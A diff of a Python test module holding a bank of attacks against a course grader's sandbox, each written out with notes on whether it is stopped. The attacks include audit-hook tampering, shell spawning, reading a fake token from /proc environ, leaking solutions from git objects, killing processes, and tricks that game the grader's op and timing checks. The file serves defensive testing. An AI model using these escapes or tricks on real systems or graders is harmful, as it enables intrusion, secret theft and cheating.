@@ -14,12 +14,13 @@ Every attack is graded against the real sandbox (tests/test_attacks.py). Two fie
 ``fallback`` documents what ``--sandbox none`` (no bubblewrap: the audit hook and the static
 policy only) does with the same attack; the README's threat model is written from it.
 """
+
 from __future__ import annotations
 
 import textwrap
 
 LEAK = "SEQLAB-LEAK"
-FAKE_TOKEN = "ghp_seqlabFakeCiToken0123456789"   # put in the grader's environment by the tests
+FAKE_TOKEN = "ghp_seqlabFakeCiToken0123456789"  # put in the grader's environment by the tests
 
 
 def _sgd(body: str) -> str:
@@ -27,27 +28,34 @@ def _sgd(body: str) -> str:
 
 
 def _layer_norm(body: str) -> str:
-    return "def layer_norm(x, weight, bias, eps=1e-5):\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n"
+    return (
+        "def layer_norm(x, weight, bias, eps=1e-5):\n"
+        + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
+        + "\n"
+    )
 
 
 def _scan(body: str) -> str:
     return "def linear_scan(a, b, h0=None):\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n"
 
 
-_EXEC_SGD = '''
+_EXEC_SGD = """
 def _use(text):
     namespace = {"torch": torch}
     exec(text.split("def sgd", 1)[0].split("import torch", 1)[-1] + "def sgd" + text.split("def sgd", 1)[1], namespace)
     return namespace["sgd"]
-'''
+"""
 
 
 def bank(Attack, CANARY_DIR):
     """The attacks of these families, built with tests.attacks.Attack."""
-    course = "/work"   # where a course checkout usually lives here; the attacks also walk up from seqlab
+    course = "/work"  # where a course checkout usually lives here; the attacks also walk up from seqlab
     return [
         # --- guard and recorder tampering -------------------------------------------------------
-        Attack("gc-empties-the-audit-hooks-closure", "optimizers.sgd", _sgd(f'''
+        Attack(
+            "gc-empties-the-audit-hooks-closure",
+            "optimizers.sgd",
+            _sgd(f'''
             import gc, glob, os
             for obj in gc.get_objects():
                 cells = getattr(obj, "__closure__", None) or ()
@@ -67,10 +75,17 @@ def bank(Attack, CANARY_DIR):
                 except Exception:
                     pass
             return w * 0, {{}}
-        '''), prelude=_EXEC_SGD, refused=True, policy_off=True,
+        '''),
+            prelude=_EXEC_SGD,
+            refused=True,
+            policy_off=True,
             fallback="NOT stopped in principle: gc reaches the hook's closure and its PathPolicy, whose lists "
-                     "can be emptied; only the static policy (gc is refused) stands in front of it"),
-        Attack("reimported-posixsubprocess-starts-a-shell", "optimizers.sgd", _sgd(f'''
+            "can be emptied; only the static policy (gc is refused) stands in front of it",
+        ),
+        Attack(
+            "reimported-posixsubprocess-starts-a-shell",
+            "optimizers.sgd",
+            _sgd(f"""
             import os, sys
             sys.modules.pop("_posixsubprocess", None)
             sys.modules.pop("subprocess", None)
@@ -80,9 +95,15 @@ def bank(Attack, CANARY_DIR):
             except Exception:
                 pass
             return w * 0, {{}}
-        '''), refused=True, policy_off=True,
-            fallback="re-importing gets the real fork_exec back; the subprocess.Popen audit event is still refused"),
-        Attack("ctypes-call-through-a-function-address", "optimizers.sgd", _sgd(f'''
+        """),
+            refused=True,
+            policy_off=True,
+            fallback="re-importing gets the real fork_exec back; the subprocess.Popen audit event is still refused",
+        ),
+        Attack(
+            "ctypes-call-through-a-function-address",
+            "optimizers.sgd",
+            _sgd(f"""
             import ctypes
             try:
                 libc = ctypes.CDLL("libc.so.6")
@@ -92,17 +113,30 @@ def bank(Attack, CANARY_DIR):
             except Exception:
                 pass
             return w * 0, {{}}
-        '''), refused=True, policy_off=True,
-            fallback="ctypes.dlopen and ctypes.call_function are refused audit events (both guards now)"),
-        Attack("disable-torch-function-hides-fused-attention", "attention.scaled_dot_product_attention", '''
+        """),
+            refused=True,
+            policy_off=True,
+            fallback="ctypes.dlopen and ctypes.call_function are refused audit events (both guards now)",
+        ),
+        Attack(
+            "disable-torch-function-hides-fused-attention",
+            "attention.scaled_dot_product_attention",
+            """
 def scaled_dot_product_attention(q, k, v, mask=None):
     fused = getattr(torch.nn.functional, "scaled_dot_" + "product_attention")
     with torch._C.DisableTorchFunction():
         out = fused(q, k, v, attn_mask=mask)
     weights = torch.softmax(q @ k.transpose(-2, -1) / q.shape[-1] ** 0.5, dim=-1)
     return out, weights
-''', expect="refused", refused=True, fallback="refused by the static policy (torch._C, a computed getattr)"),
-        Attack("popped-mode-stack-hides-layer-norm", "transformer.layer_norm", _layer_norm('''
+""",
+            expect="refused",
+            refused=True,
+            fallback="refused by the static policy (torch._C, a computed getattr)",
+        ),
+        Attack(
+            "popped-mode-stack-hides-layer-norm",
+            "transformer.layer_norm",
+            _layer_norm("""
             from torch.utils._python_dispatch import _pop_mode_temporarily
             from torch.overrides import _pop_mode
             mode = _pop_mode()
@@ -110,8 +144,15 @@ def scaled_dot_product_attention(q, k, v, mask=None):
                 return torch.nn.functional.layer_norm(x, x.shape[-1:], weight, bias, eps)
             finally:
                 torch.overrides._push_mode(mode)
-        '''), expect="refused", refused=True, fallback="refused by the static policy (private torch modules)"),
-        Attack("no-op-saved-tensors-hooks-hide-autograd", "rnn.rnn_bptt", '''
+        """),
+            expect="refused",
+            refused=True,
+            fallback="refused by the static policy (private torch modules)",
+        ),
+        Attack(
+            "no-op-saved-tensors-hooks-hide-autograd",
+            "rnn.rnn_bptt",
+            """
 def rnn_bptt(x, targets, h0, params):
     leaves = {k: v.detach().clone().requires_grad_() for k, v in params.items()}
     h = h0.detach().clone().requires_grad_()
@@ -124,8 +165,13 @@ def rnn_bptt(x, targets, h0, params):
         loss = loss / x.shape[0]
     grads = torch.autograd.grad(loss, [*leaves.values(), h])
     return loss.detach(), {**{k: g for k, g in zip(leaves, grads)}, "h0": grads[-1]}
-''', fallback="the same: torch.autograd.* is named in the source, seen by the parent's scan"),
-        Attack("forward-mode-ad-for-bptt", "rnn.rnn_bptt", '''
+""",
+            fallback="the same: torch.autograd.* is named in the source, seen by the parent's scan",
+        ),
+        Attack(
+            "forward-mode-ad-for-bptt",
+            "rnn.rnn_bptt",
+            """
 def rnn_bptt(x, targets, h0, params):
     import torch.autograd.forward_ad as fwAD
     def loss_of(p, h_start):
@@ -152,9 +198,14 @@ def rnn_bptt(x, targets, h0, params):
                 flat[i] = fwAD.unpack_dual(out).tangent
         grads[name] = flat.reshape(value.shape)
     return loss_of(params, h0), grads
-''', fallback="the same: torch.autograd.forward_ad is named in the source"),
+""",
+            fallback="the same: torch.autograd.forward_ad is named in the source",
+        ),
         # --- complexity gaming ----------------------------------------------------------------------
-        Attack("numpy-loop-in-linear-scan", "selective_scan.linear_scan", _scan('''
+        Attack(
+            "numpy-loop-in-linear-scan",
+            "selective_scan.linear_scan",
+            _scan("""
             import numpy as np
             A, B = a.detach().cpu().numpy(), b.detach().cpu().numpy()
             h = np.zeros_like(B[:, 0]) if h0 is None else h0.detach().cpu().numpy()
@@ -163,8 +214,14 @@ def rnn_bptt(x, targets, h0, params):
                 h = A[:, t] * h + B[:, t]
                 out[:, t] = h
             return torch.from_numpy(out).to(device=b.device, dtype=torch.promote_types(a.dtype, b.dtype))
-        '''), expect="complexity-only", fallback="the same: the parent times it"),
-        Attack("loop-padded-with-dummy-ops", "selective_scan.linear_scan", _scan('''
+        """),
+            expect="complexity-only",
+            fallback="the same: the parent times it",
+        ),
+        Attack(
+            "loop-padded-with-dummy-ops",
+            "selective_scan.linear_scan",
+            _scan("""
             # ~5000 fixed dummy operations make the counts at T=64 and T=1024 look flat
             pad = torch.zeros(1, dtype=a.dtype)
             for _ in range(5000):
@@ -175,8 +232,14 @@ def rnn_bptt(x, targets, h0, params):
                 h = a[:, t] * h + b[:, t]
                 out.append(h)
             return torch.stack(out, dim=1) + pad
-        '''), expect="complexity-only", fallback="the same: the parent times it"),
-        Attack("loop-hidden-from-the-op-recorder", "selective_scan.linear_scan", _scan('''
+        """),
+            expect="complexity-only",
+            fallback="the same: the parent times it",
+        ),
+        Attack(
+            "loop-hidden-from-the-op-recorder",
+            "selective_scan.linear_scan",
+            _scan("""
             with torch._C.DisableTorchFunction():
                 h = torch.zeros_like(b[:, 0]) if h0 is None else h0
                 out = []
@@ -184,9 +247,16 @@ def rnn_bptt(x, targets, h0, params):
                     h = a[:, t] * h + b[:, t]
                     out.append(h)
                 return torch.stack(out, dim=1)
-        '''), expect="refused", refused=True, fallback="refused by the static policy (torch._C)"),
+        """),
+            expect="refused",
+            refused=True,
+            fallback="refused by the static policy (torch._C)",
+        ),
         # --- file-system routes (policy off: the sandbox alone must stop them) ----------------------
-        Attack("dir-fd-below-the-course", "optimizers.sgd", _sgd(f'''
+        Attack(
+            "dir-fd-below-the-course",
+            "optimizers.sgd",
+            _sgd(f'''
             import os, seqlab
             root = os.path.dirname(os.path.dirname(os.path.abspath(seqlab.__file__)))
             try:
@@ -196,8 +266,15 @@ def rnn_bptt(x, targets, h0, params):
             except Exception:
                 return w * 0, {{}}
             raise RuntimeError("{LEAK} dir_fd read " + str(len(text)))
-        '''), refused=True, policy_off=True, fallback="refused: opening a directory above a protected root"),
-        Attack("hard-link-into-scratch", "optimizers.sgd", _sgd(f'''
+        '''),
+            refused=True,
+            policy_off=True,
+            fallback="refused: opening a directory above a protected root",
+        ),
+        Attack(
+            "hard-link-into-scratch",
+            "optimizers.sgd",
+            _sgd(f'''
             import os, seqlab
             root = os.path.dirname(os.path.dirname(os.path.abspath(seqlab.__file__)))
             try:
@@ -206,8 +283,15 @@ def rnn_bptt(x, targets, h0, params):
             except Exception:
                 return w * 0, {{}}
             raise RuntimeError("{LEAK} hard link " + str(len(text)))
-        '''), refused=True, policy_off=True, fallback="refused: os.link of a protected path"),
-        Attack("rename-out-of-scratch", "optimizers.sgd", _sgd(f'''
+        '''),
+            refused=True,
+            policy_off=True,
+            fallback="refused: os.link of a protected path",
+        ),
+        Attack(
+            "rename-out-of-scratch",
+            "optimizers.sgd",
+            _sgd(f'''
             import os
             open("note.txt", "w").write("x")
             try:   # the canary check of test_attacks looks for it on the grader's side
@@ -216,9 +300,15 @@ def rnn_bptt(x, targets, h0, params):
             except OSError:
                 pass
             return w * 0, {{}}
-        '''), refused=True, policy_off=True,
-            fallback="refused: renaming changes both paths, and the target is outside the scratch directory"),
-        Attack("reads-git-objects", "optimizers.sgd", _sgd(f'''
+        '''),
+            refused=True,
+            policy_off=True,
+            fallback="refused: renaming changes both paths, and the target is outside the scratch directory",
+        ),
+        Attack(
+            "reads-git-objects",
+            "optimizers.sgd",
+            _sgd(f'''
             import glob, os, zlib, seqlab
             root = os.path.dirname(os.path.dirname(os.path.abspath(seqlab.__file__)))
             for path in glob.glob(os.path.join(root, ".git", "objects", "??", "*"))[:20000]:
@@ -229,8 +319,15 @@ def rnn_bptt(x, targets, h0, params):
                 if "def sgd(" in text and "BEGIN SOLUTION" in text:
                     raise RuntimeError("{LEAK} git object " + path)
             return w * 0, {{}}
-        '''), refused=True, policy_off=True, fallback="refused: .git is a protected path (both guards now)"),
-        Attack("reads-earlier-output-folders", "optimizers.sgd", _sgd(f'''
+        '''),
+            refused=True,
+            policy_off=True,
+            fallback="refused: .git is a protected path (both guards now)",
+        ),
+        Attack(
+            "reads-earlier-output-folders",
+            "optimizers.sgd",
+            _sgd(f'''
             import glob, os, seqlab
             root = os.path.dirname(os.path.dirname(os.path.abspath(seqlab.__file__)))
             found = []
@@ -246,9 +343,15 @@ def rnn_bptt(x, targets, h0, params):
             if readable:
                 raise RuntimeError("{LEAK} earlier outputs " + str(readable))
             return w * 0, {{}}
-        '''), refused=True, policy_off=True,
-            fallback="NOT stopped: the hook protects the current output folder only; earlier ones are readable"),
-        Attack("parent-environ-through-proc", "optimizers.sgd", _sgd(f'''
+        '''),
+            refused=True,
+            policy_off=True,
+            fallback="NOT stopped: the hook protects the current output folder only; earlier ones are readable",
+        ),
+        Attack(
+            "parent-environ-through-proc",
+            "optimizers.sgd",
+            _sgd(f'''
             import os
             for pid in {{os.getppid(), 1}} | {{int(p) for p in os.listdir("/proc") if p.isdigit()}}:
                 try:
@@ -258,10 +361,16 @@ def rnn_bptt(x, targets, h0, params):
                 if b"{FAKE_TOKEN}" in env:
                     raise RuntimeError("{LEAK} token of pid " + str(pid) + ": {FAKE_TOKEN}")
             return w * 0, {{}}
-        '''), refused=True, policy_off=True,
+        '''),
+            refused=True,
+            policy_off=True,
             fallback="NOT stopped: /proc/<parent>/environ is readable (same uid); the child's own "
-                     "environment is minimal, but the parent's is not"),
-        Attack("parent-memory-through-proc", "optimizers.sgd", _sgd(f'''
+            "environment is minimal, but the parent's is not",
+        ),
+        Attack(
+            "parent-memory-through-proc",
+            "optimizers.sgd",
+            _sgd(f'''
             import os, re
             pid = os.getppid()
             try:
@@ -283,10 +392,16 @@ def rnn_bptt(x, targets, h0, params):
             except Exception:
                 pass
             return w * 0, {{}}
-        '''), refused=True, policy_off=True,
-            fallback="stopped by the kernel when ptrace is restricted (Yama ptrace_scope >= 1), else NOT stopped"),
+        '''),
+            refused=True,
+            policy_off=True,
+            fallback="stopped by the kernel when ptrace is restricted (Yama ptrace_scope >= 1), else NOT stopped",
+        ),
         # --- process and network routes (policy off) ------------------------------------------------
-        Attack("socket-to-the-network-and-localhost", "optimizers.sgd", _sgd(f'''
+        Attack(
+            "socket-to-the-network-and-localhost",
+            "optimizers.sgd",
+            _sgd(f'''
             import socket
             for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888)):
                 try:
@@ -296,16 +411,30 @@ def rnn_bptt(x, targets, h0, params):
                 except OSError:
                     pass
             return w * 0, {{}}
-        '''), refused=True, policy_off=True, fallback="refused: socket audit events (both guards now)"),
-        Attack("subprocess-writes-a-canary", "optimizers.sgd", _sgd(f'''
+        '''),
+            refused=True,
+            policy_off=True,
+            fallback="refused: socket audit events (both guards now)",
+        ),
+        Attack(
+            "subprocess-writes-a-canary",
+            "optimizers.sgd",
+            _sgd(f"""
             import subprocess
             try:
                 subprocess.run(["/bin/sh", "-c", "mkdir -p {CANARY_DIR}; touch {CANARY_DIR}/subprocess2"], timeout=5)
             except Exception:
                 pass
             return w * 0, {{}}
-        '''), refused=True, policy_off=True, fallback="refused: subprocess.Popen audit event"),
-        Attack("fork-writes-a-canary", "optimizers.sgd", _sgd(f'''
+        """),
+            refused=True,
+            policy_off=True,
+            fallback="refused: subprocess.Popen audit event",
+        ),
+        Attack(
+            "fork-writes-a-canary",
+            "optimizers.sgd",
+            _sgd(f'''
             import os
             try:
                 pid = os.fork()
@@ -316,8 +445,15 @@ def rnn_bptt(x, targets, h0, params):
                 open("{CANARY_DIR}/forked", "w").write("x")
                 os._exit(0)
             raise RuntimeError("{LEAK} forked " + str(pid))
-        '''), refused=True, policy_off=True, fallback="refused: os.fork audit event (and RLIMIT_NPROC)"),
-        Attack("kill-the-parent-and-everyone", "optimizers.sgd", _sgd('''
+        '''),
+            refused=True,
+            policy_off=True,
+            fallback="refused: os.fork audit event (and RLIMIT_NPROC)",
+        ),
+        Attack(
+            "kill-the-parent-and-everyone",
+            "optimizers.sgd",
+            _sgd("""
             import os, signal
             for pid in (os.getppid(), -1, 1):
                 try:
@@ -325,47 +461,85 @@ def rnn_bptt(x, targets, h0, params):
                 except Exception:
                     pass
             return w * 0, {}
-        '''), refused=True, policy_off=True,
-            fallback="refused: os.kill audit event (without the sandbox kill(-1) would reach every process of the uid)"),
+        """),
+            refused=True,
+            policy_off=True,
+            fallback="refused: os.kill audit event (without the sandbox kill(-1) would reach every process of the uid)",
+        ),
         # --- forbidden operations by what they compute ----------------------------------------------
-        Attack("group-norm-with-one-group-is-layer-norm", "transformer.layer_norm", _layer_norm('''
+        Attack(
+            "group-norm-with-one-group-is-layer-norm",
+            "transformer.layer_norm",
+            _layer_norm("""
             shape = x.shape
             flat = x.reshape(-1, 1, shape[-1])
             out = torch.nn.functional.group_norm(flat, 1, eps=eps).reshape(shape)
             return out * weight + bias
-        '''), fallback="the same: the parent's scan of the source names group_norm"),
-        Attack("instance-norm-is-layer-norm", "transformer.layer_norm", _layer_norm('''
+        """),
+            fallback="the same: the parent's scan of the source names group_norm",
+        ),
+        Attack(
+            "instance-norm-is-layer-norm",
+            "transformer.layer_norm",
+            _layer_norm("""
             shape = x.shape
             out = torch.nn.functional.instance_norm(x.reshape(1, -1, shape[-1]), eps=eps).reshape(shape)
             return out * weight + bias
-        '''), fallback="the same"),
-        Attack("rms-norm-of-the-centred-input-is-layer-norm", "transformer.layer_norm", _layer_norm('''
+        """),
+            fallback="the same",
+        ),
+        Attack(
+            "rms-norm-of-the-centred-input-is-layer-norm",
+            "transformer.layer_norm",
+            _layer_norm("""
             centred = x - x.mean(-1, keepdim=True)
             return torch.nn.functional.rms_norm(centred, x.shape[-1:], weight, eps) + bias
-        '''), fallback="the same"),
-        Attack("group-norm-through-getattr-with-a-literal", "transformer.layer_norm", _layer_norm('''
+        """),
+            fallback="the same",
+        ),
+        Attack(
+            "group-norm-through-getattr-with-a-literal",
+            "transformer.layer_norm",
+            _layer_norm("""
             norm = getattr(torch.nn.functional, "group_norm")
             shape = x.shape
             return norm(x.reshape(-1, 1, shape[-1]), 1, eps=eps).reshape(shape) * weight + bias
-        '''), fallback="the same: a literal getattr is resolved by the scan"),
-        Attack("aten-native-group-norm", "transformer.layer_norm", _layer_norm('''
+        """),
+            fallback="the same: a literal getattr is resolved by the scan",
+        ),
+        Attack(
+            "aten-native-group-norm",
+            "transformer.layer_norm",
+            _layer_norm("""
             shape = x.shape
             n = x.reshape(-1, shape[-1]).shape[0]
             out = torch.ops.aten.native_group_norm(x.reshape(n, 1, shape[-1]), None, None, n, 1, shape[-1], 1, eps)[0]
             return out.reshape(shape) * weight + bias
-        '''), fallback="the same"),
-        Attack("get-total-norm-for-clip-grad-norm", "optimizers.clip_grad_norm", '''
+        """),
+            fallback="the same",
+        ),
+        Attack(
+            "get-total-norm-for-clip-grad-norm",
+            "optimizers.clip_grad_norm",
+            """
 def clip_grad_norm(grads, max_norm):
     if not grads:
         return [], torch.tensor(0.0)
     total = torch.nn.utils.get_total_norm(grads)
     scale = torch.clamp(max_norm / (total + 1e-6), max=1.0)
     return [g * scale for g in grads], total
-''', fallback="the same"),
-        Attack("embedding-bag-for-embed-tokens", "positional.embed_tokens", '''
+""",
+            fallback="the same",
+        ),
+        Attack(
+            "embedding-bag-for-embed-tokens",
+            "positional.embed_tokens",
+            """
 def embed_tokens(tokens, embedding, pe):
     B, T = tokens.shape
     x = torch.nn.functional.embedding_bag(tokens.reshape(-1, 1), embedding, mode="sum").reshape(B, T, -1)
     return x * embedding.shape[-1] ** 0.5 + pe[:T]
-''', fallback="the same"),
+""",
+            fallback="the same",
+        ),
     ]
